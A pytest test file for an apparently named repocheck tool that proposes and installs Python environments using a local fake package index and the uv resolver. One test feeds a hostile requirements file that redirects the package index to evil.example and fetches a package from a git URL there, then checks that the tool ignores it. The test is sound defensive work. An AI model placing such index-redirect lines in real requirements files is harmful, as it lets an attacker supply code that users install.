"""Propose an environment from an index on loopback, with the real resolver, and install what is written."""

import datetime as dt
import os
import re
import socket
import subprocess
import sys
from functools import cache

import pytest

from repocheck.config import Config, StoreConfig
from repocheck.errors import UsageError
from repocheck.models import Origin
from repocheck.pipeline import Proposer, proposal_for, target_named
from repocheck.probe import find_uv
from repocheck.reporter import environment_file, is_proposed, summary_of
from tests.forge.package_index import PackageIndex
from tests.subjects import make_subject

CONFIG = Config(store=StoreConfig(path=None))
THEN = dt.date(2021, 6, 1)
FILES = {
    "a.py": "import requests\nfrom odd_tool import work\nimport tqdm\n",
    "b.py": "import a\nfrom requests import old_name\n",
    "requirements.txt": "six==1.0\n",
}
needs_uv = pytest.mark.skipif(find_uv() is None, reason="uv is not installed")


@pytest.fixture
def index(monkeypatch):
    with PackageIndex() as made:
        made.publish("six", "1.0", {"six.py": ""}, "2020-01-01")
        made.publish("setuptools", "80.1", {"pkg_resources.py": "", "setuptools.py": ""}, "2020-01-01")
        made.publish("tqdm", "1.0", {"tqdm/__init__.py": ""}, "2020-01-01")
        made.publish("requests", "1.0", {"requests.py": "old_name = 1"}, "2020-01-01", ("six",))
        made.publish("requests", "2.0", {"requests.py": "new_name = 1"}, "2025-01-01")
        made.publish("odd-tool", "1.0", {"odd_tool/__init__.py": "def work(): pass"}, "2020-01-01")
        made.publish("young-tool", "1.0", {"young_tool.py": ""}, "2025-01-01")
        made.publish("other-tool", "1.0", {"something.py": ""}, "2020-01-01")
        monkeypatch.setenv("UV_DEFAULT_INDEX", made.address)
        for name in ("UV_INDEX_URL", "PIP_INDEX_URL", "PIP_FIND_LINKS", "PIP_EXTRA_INDEX_URL"):
            monkeypatch.delenv(name, raising=False)
        yield made


def proposed(files=FILES, *, accept_guesses=True, days=(THEN,), python=""):
    proposer = Proposer(CONFIG)
    try:
        return proposer.proposal(make_subject(files), days, python, accept_guesses=accept_guesses)
    finally:
        proposer.close()


@needs_uv
def test_the_list_what_it_lacks_and_a_package_of_then(index):
    found = proposed()
    versions = {each.name: each.version for each in found.installation.packages}
    assert versions["requests"] == "1.0"
    assert (found.candidate.as_of, [name for name, _ in found.candidate.dates]) == (None, ["requests"])
    assert (set(found.ok), found.fails, found.unknown) == ({"a.py", "b.py"}, (), ())
    origins = {each.name: each.origin for each in found.suppliers}
    assert origins["six"] is Origin.DECLARED
    assert origins["tqdm"] is Origin.KNOWN
    (guess,) = found.guesses
    assert (guess.name, guess.confirmed_by, guess.published) == (
        "odd-tool",
        "odd_tool-1.0-py3-none-any.whl",
        dt.date(2020, 1, 1),
    )


@needs_uv
def test_of_a_package_that_has_lost_a_name_the_newest_release_with_it(index):
    for minor in range(1, 9):
        names = "old_name = 1" if minor in {3, 4, 5, 6} else "new_name = 1"
        index.publish("requests", f"1.{minor}", {"requests.py": names}, f"2023-0{minor}-01")
    found = proposed(days=(dt.date(2019, 1, 1), dt.date(2025, 6, 1)))
    versions = {each.name: each.version for each in found.installation.packages}
    assert versions["requests"] == "1.6"
    assert found.candidate.dates == (("requests", dt.date(2023, 6, 1)),)
    assert set(found.ok) == {"a.py", "b.py"}


@needs_uv
def test_of_a_package_that_is_source_of_a_newer_python_the_newest_release_that_is_not(index):
    for minor in range(1, 6):
        code = "" if minor < 4 else "from __future__ import annotations"
        index.publish("requests", f"1.{minor}", {"requests.py": code}, f"2023-0{minor}-01")
    index.publish("requests", "2.1", {"requests.py": "(x := 1)"}, "2025-06-01")
    index.publish("user", "1.0", {"user.py": "import requests"}, "2020-01-01", ("requests",))
    found = proposed({"a.py": "import user\n", "README.md": "Python 3.6.7\n", "requirements.txt": "user\n"})
    assert found.candidate.python.startswith("3.6.")
    assert {each.name: each.version for each in found.installation.packages}["requests"] == "1.3"
    assert found.ok == ("a.py",)


@needs_uv
def test_own_files_that_are_source_of_a_newer_python_are_given_it(index):
    files = {"a.py": "import tqdm\nif (x := 1): pass\n", "README.md": "Python 3.7\n"}
    found = proposed(files)
    assert (found.candidate.python.rpartition(".")[0], found.ok) == ("3.8", ("a.py",))
    assert found.tried[0].first_fault == "a.py is source of Python 3.8"
    assert proposed(files, python="3.7").fails == ("a.py",)


@needs_uv
def test_what_lacks_own_files_gets_what_it_imports_all_the_same(index):
    found = proposed({"a.py": "import tqdm\nimport own.part\n", "own/__init__.py": "import own.gone"})
    assert (found.ok, found.hindered) == ((), ("a.py", "own/__init__.py"))
    assert {each.name for each in found.installation.packages} == {"setuptools", "tqdm"}
    assert is_proposed(found)


@needs_uv
def test_what_a_package_imports_unasked_comes_with_its_extra(index):
    requires = ("shades; extra == 'plot'", "strokes; extra == 'plot'", "unmeant; extra == 'test'")
    code = "try:\n  import shades\n  import strokes\nexcept ImportError:\n  raise ImportError('lib[plot]')\n"
    index.publish("requests", "2.1", {"requests.py": code}, "2020-01-01", requires)
    for name in ("shades", "strokes", "unmeant"):
        index.publish(name, "1.0", {f"{name}.py": ""}, "2020-01-01")
    found = proposed({"a.py": "import requests\n"}, accept_guesses=False)
    names = {each.name for each in found.installation.packages}
    assert names == {"requests", "setuptools", "shades", "strokes"}
    assert (found.ok, len(found.tried)) == (("a.py",), 2)
    assert "shades==1.0" in environment_file(found, "requirements")
    assert "needed by requests" in environment_file(found, "requirements")


@needs_uv
def test_guesses_are_left_out_unless_they_are_accepted(index):
    found = proposed(accept_guesses=False)
    assert "odd-tool" not in {each.name for each in found.installation.packages}
    assert [each.name for each in found.guesses] == ["odd-tool"]
    assert set(found.fails) == {"a.py", "b.py"}
    assert "Left out, a guess: odd-tool" in environment_file(found, "requirements")


@needs_uv
@pytest.mark.parametrize("lines", ["", "old_tool\n"])
@pytest.mark.parametrize(("holds", "is_there"), [("old_tool.py", True), ("other.py", False)])
def test_a_name_behind_which_another_package_stands_is_taken(index, lines, holds, is_there):
    index.publish("old-tool", "2.0", {"old_tool_utils.py": ""}, "2020-01-01", ("new-tool",))
    index.publish("new-tool", "1.0", {holds: ""}, "2020-01-01")
    found = proposed({"a.py": "import old_tool\n", "requirements.txt": lines})
    assert (found.ok == ("a.py",)) is is_there
    assert (
        "what is called old-tool on the index does not supply it" in {e.why for e in found.open}
    ) != is_there


@needs_uv
@pytest.mark.parametrize(
    ("own", "fails", "words"),
    [
        (
            {},
            ("p/__init__.py", "a.py"),
            "is asked for its version when the code is imported, and is not installed",
        ),
        ({"pyproject.toml": "[project]\nname = 'P'\n"}, ("p/__init__.py", "a.py"), "pip install --no-deps ."),
    ],
)
def test_what_asks_for_its_own_version_has_to_be_installed_itself(index, own, fails, words):
    index.publish("p", "1.0", {"p.py": ""}, "2020-01-01")
    code = "from importlib.metadata import version\n__version__ = version(__name__)\n"
    found = proposed({"p/__init__.py": code, "a.py": "import p\n"} | own)
    assert set(found.fails) == set(fails)
    assert words in "".join(each.why for each in found.open if each.what == "p")


@needs_uv
@pytest.mark.parametrize("module", ["young_tool", "other_tool", "no_tool", "utils"])
def test_a_package_that_is_younger_another_none_or_never_meant_is_not_taken(index, module):
    found = proposed({"a.py": f"import {module}\n"})
    assert {each.name for each in found.installation.packages} <= {"setuptools"}
    assert found.guesses == ()
    why = next(each.why for each in found.open if each.what == module)
    assert ("as old as the code" in why) is (module in {"young_tool", "no_tool"})


@needs_uv
@pytest.mark.parametrize(
    ("module", "files", "words"),
    [
        ("source_tool", {"source_tool.py": ""}, "the source of which has it; it has no wheel"),
        ("source_tool", {"src/source_tool/__init__.py": ""}, "pip install source-tool"),
        ("source_tool", {"something.py": ""}, "what is called source-tool on the index does not supply it"),
        ("source_tool", {"something.c": ""}, "whether its source has it was not seen"),
        ("sharedmem", {"sharedmem/__init__.py": ""}, "has no wheel and must be built"),
    ],
)
def test_what_has_only_a_source_is_said_to_be_there_and_built_if_it_is_no_guess(index, module, files, words):
    name = module.replace("_", "-")
    index.publish_source(name, "1.0", {"PKG-INFO": f"Name: {name}\nVersion: 1.0\n", **files}, "2020-01-01")
    found = proposed({"a.py": f"import {module}\n"})
    why = next((each.why for each in found.open if each.what == module), "")
    assert words in why
    assert (name in {each.name for each in found.installation.packages}) is (name == "sharedmem")


@needs_uv
@pytest.mark.parametrize("asked", ["setuptools", "setuptools>=82"])
def test_setuptools_is_one_with_pkg_resources_whoever_asks_for_it_unless_that_cannot_be(index, asked):
    index.publish("setuptools", "84.0", {"setuptools.py": ""}, "2020-06-01")
    index.publish("tqdm", "2.0", {"tqdm.py": ""}, "2020-01-01", (asked,))
    found = proposed({"a.py": "import tqdm\n", "requirements.txt": "tqdm==2.0\n"}, python="3.12")
    (version,) = [each.version for each in found.installation.packages if each.name == "setuptools"]
    assert version == ("80.1" if asked == "setuptools" else "84.0")
    lines = [each.line for each in found.suppliers if each.name == "setuptools"]
    assert lines == (["setuptools<81"] if asked == "setuptools" else ["setuptools"])


@needs_uv
def test_what_the_repository_has_elsewhere_is_not_guessed(index):
    found = proposed({"a.py": "import odd_tool\n", "code/odd_tool/x.py": "import six\n"})
    assert found.guesses == ()
    assert [each.why for each in found.open if each.what == "odd_tool"] == [
        "is in the repository, but not where it is imported from: start Python in the folder that has it"
    ]


OLD_WHEEL = "cp311-cp311-manylinux2014_x86_64"


@needs_uv
@pytest.mark.parametrize(
    ("lines", "versions"),
    [
        (("old-ext",), {"numpy": "1.26"}),
        (("old-ext", "needs-two==1.0"), {"numpy": "2.1"}),
        (("old-ext", "needs-two==1.0", "early-tool"), {"numpy": "2.1", "early-tool": "1.0"}),
        (("early-tool",), {"early-tool": "1.0"}),
        (("early-only",), {"early-only": "1.0b1"}),
        (("early-tool", "needs-early==1.0"), {"early-tool": "2.0.dev3"}),
        (("early-tool", "needs-early"), {"early-tool": "1.0", "needs-early": "0.9"}),
    ],
)
def test_what_is_better_left_out_gives_way_to_what_others_need(index, lines, versions):
    index.publish("numpy", "1.26", {"numpy.py": ""}, "2023-09-16")
    index.publish("numpy", "2.1", {"numpy.py": ""}, "2024-08-18")
    index.publish("old-ext", "1.0", {"old_ext.py": ""}, "2023-01-01", ("numpy",), tag=OLD_WHEEL)
    index.publish("needs-two", "1.0", {"needs_two.py": ""}, "2024-08-18", ("numpy>=2",))
    index.publish("early-tool", "1.0", {"early_tool.py": ""}, "2020-01-01")
    index.publish("early-tool", "2.0.dev3", {"early_tool.py": ""}, "2020-02-01")
    index.publish("early-only", "1.0b1", {"early_only.py": ""}, "2020-02-01")
    index.publish("needs-early", "0.9", {"needs_early.py": ""}, "2020-01-01", ("early-tool",))
    index.publish("needs-early", "1.0", {"needs_early.py": ""}, "2020-02-01", ("early-tool>=2.0.dev1",))
    found = proposed({"a.py": "import old_ext\n", "requirements.txt": "\n".join(lines)}, python="3.11")
    installed = {each.name: each.version for each in found.installation.packages}
    assert installed.items() >= versions.items()


@needs_uv
@pytest.mark.parametrize(
    ("lines", "versions"),
    [
        (("source-only",), {"source-only": "2.0", "six": "1.0"}),
        (("source-only", "needs-old==1.0"), {"source-only": "1.0", "six": "1.0"}),
        (("source-only", "needs-old"), {"source-only": "1.5", "needs-old": "2.0", "six": "0.9"}),
        (("mixed", "needs-mixed==1.0"), {"mixed": "1.0", "needs-mixed": "1.0"}),
        (("mixed",), {"mixed": "2.0"}),
    ],
)
def test_what_must_be_built_is_bound_by_what_others_ask_of_it(index, lines, versions):
    index.publish("six", "0.9", {"six.py": ""}, "2019-01-01")
    index.publish_source("source-only", "1.0", {"source_only.py": ""}, "2020-01-01", ("six",))
    index.publish_source("source-only", "1.5", {"source_only.py": ""}, "2020-01-01", ("six<1",))
    index.publish_source("source-only", "2.0", {"source_only.py": ""}, "2020-01-01", ("six>=1", "six>0.<2"))
    index.publish("needs-old", "1.0", {"needs_old.py": ""}, "2020-01-01", ("source-only<1.2",))
    index.publish("needs-old", "2.0", {"needs_old.py": ""}, "2020-01-01", ("source-only>1,<2",))
    index.publish_source("mixed", "1.0", {"mixed.py": ""}, "2020-01-01")
    index.publish("mixed", "2.0", {"mixed.py": ""}, "2020-01-01")
    index.publish("needs-mixed", "1.0", {"needs_mixed.py": ""}, "2020-01-01", ("mixed<2",))
    imported = (
        "six, needs_mixed"
        if "needs-mixed==1.0" in lines
        else "six, mixed"
        if "mixed" in lines
        else "six, source_only"
    )
    files = {"a.py": f"import {imported}\n", "requirements.txt": "\n".join(lines)}
    found = proposed(files, python="3.11")
    installed = {each.name: each.version for each in found.installation.packages}
    assert installed.items() >= versions.items()
    assert all(each.address.startswith(index.url) for each in found.installation.packages)


@needs_uv
def test_what_fits_in_no_version_is_not_proposed_whole(index):
    index.publish_source("source-only", "2.0", {"source_only.py": ""}, "2020-01-01")
    index.publish("needs-old", "1.0", {"needs_old.py": ""}, "2020-01-01", ("source-only<1.2",))
    found = proposed({"a.py": "import six\n", "requirements.txt": "source-only\nneeds-old\n"})
    names = {each.name for each in found.installation.packages}
    assert not names >= {"source-only", "needs-old"}
    assert found.ok == ("a.py",)


def limited(files, *, accept_guesses, **limits):
    within = CONFIG.environment.model_copy(update=limits)
    proposer = Proposer(CONFIG.model_copy(update={"environment": within}))
    try:
        return proposer.proposal(make_subject(files), (THEN,), accept_guesses=accept_guesses)
    finally:
        proposer.close()


@needs_uv
@pytest.mark.parametrize(
    ("module", "accept_guesses", "most", "installed"),
    [
        ("other_tool", True, 1, set()),
        ("other_tool", True, 2, {"six", "setuptools"}),
        ("odd_tool", True, 1, {"six", "odd-tool", "setuptools"}),
        ("odd_tool", False, 1, set()),
        ("odd_tool", False, 2, {"six", "setuptools"}),
    ],
)
def test_a_guess_is_not_written_for_want_of_a_candidate(index, module, accept_guesses, most, installed):
    files = {"a.py": f"import {module}\nimport six\n"}
    found = limited(files, accept_guesses=accept_guesses, max_candidates=most)
    assert {each.name for each in found.installation.packages} == installed
    assert found.cut_off or installed


@pytest.fixture
def hanging(monkeypatch):
    with socket.create_server(("127.0.0.1", 0)) as server:
        monkeypatch.setenv("UV_DEFAULT_INDEX", f"http://127.0.0.1:{server.getsockname()[1]}/simple")
        yield


@needs_uv
@pytest.mark.parametrize("accept_guesses", [True, False])
def test_an_index_that_hangs_ends_the_search_at_its_limit(hanging, accept_guesses):
    found = limited(FILES, accept_guesses=accept_guesses, max_seconds=1.0)
    assert {each.outcome for each in found.tried} == {"timeout"}
    assert found.cut_off
    assert "cut off by a limit" in summary_of(found)


@needs_uv
@pytest.mark.parametrize(
    ("accept_guesses", "words"), [(True, "which may be another version"), (False, "install it by hand")]
)
def test_of_what_is_to_come_from_an_address_what_the_index_has_is_guessed(index, accept_guesses, words):
    evil = "--index-url https://evil.example/simple\nodd-tool @ git+https://evil.example/x.git\nsix\n"
    files = {"a.py": "import odd_tool\nimport six\n", "requirements.txt": evil}
    found = proposed(files, accept_guesses=accept_guesses)
    assert ("odd-tool" in {each.name for each in found.installation.packages}) is accept_guesses
    assert [each.name for each in found.guesses] == ["odd-tool"]
    assert all(each.address.startswith(index.url) for each in found.installation.packages)
    why = next(each.why for each in found.open if each.what == "odd-tool")
    assert "address" in why
    assert words in why


@needs_uv
def test_a_python_that_is_asked_for_is_the_only_one(index):
    found = proposed({"a.py": "import imp\n"}, python="3.12")
    assert {each.candidate.python.rpartition(".")[0] for each in found.tried} == {"3.12"}


PIP = [sys.executable, "-m", "pip"]
CLEAN = {"PATH": "/usr/bin:/bin", "PYTHONPATH": os.environ.get("PYTHONPATH", "")}


@cache
def pip_reads_lock_files():
    """Return whether pip is of release 26.1 or newer."""
    said = subprocess.run([*PIP, "--version"], capture_output=True, text=True, check=False, env=CLEAN).stdout
    found = re.match(r"pip (\d+)\.(\d+)", said)
    return bool(found) and (int(found[1]), int(found[2])) >= (26, 1)


@pytest.mark.parametrize("form", ["requirements", "pylock"])
@pytest.mark.parametrize("installer", ["uv", "pip"])
@needs_uv
def test_what_is_written_can_be_installed(index, tmp_path, form, installer):
    if (installer, form) == ("pip", "pylock") and not pip_reads_lock_files():
        pytest.skip("pip reads lock files from release 26.1 on")
    found = proposed(python=f"3.{sys.version_info[1]}")
    name = {"requirements": "requirements.txt", "pylock": "pylock.toml"}[form]
    (tmp_path / name).write_text(environment_file(found, form))
    target = tmp_path / "installed"
    uv = [find_uv() or "", "pip", "install", "--no-config", "--cache-dir", str(tmp_path / "cache")]
    uv += ["--python", sys.executable]
    pip = [*PIP, "install", "--no-cache-dir", "--disable-pip-version-check"]
    options = ["--index-url", index.address, "--target", str(target), "-r", name]
    done = subprocess.run(
        [*{"uv": uv, "pip": pip}[installer], *options],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
        env=CLEAN | {"HOME": str(tmp_path)},
    )
    assert done.returncode == 0, done.stderr
    assert (target / "odd_tool" / "__init__.py").exists()
    assert (target / "requests.py").read_text() == "old_name = 1"


def test_a_repository_without_python_gets_none(index):
    assert proposed({"README.md": "x"}) is None


def test_the_network_and_uv_are_needed(tmp_path, monkeypatch):
    (tmp_path / "a.py").write_text("import six\n")
    target = target_named(str(tmp_path), CONFIG)
    with pytest.raises(UsageError, match="package index"):
        proposal_for(target, CONFIG.model_copy(update={"offline": True}))
    monkeypatch.setattr("repocheck.probe.find_uv", lambda: None)
    with pytest.raises(UsageError, match="uv was not found"):
        proposal_for(target, CONFIG)


@needs_uv
def test_words_promise_nothing(index):
    words = summary_of(proposed())
    assert words.startswith("Proposed: Python 3.11, packages of today. 2 of 2 files are expected to import")
    assert "nothing was installed or run" in words
    assert "works" not in words
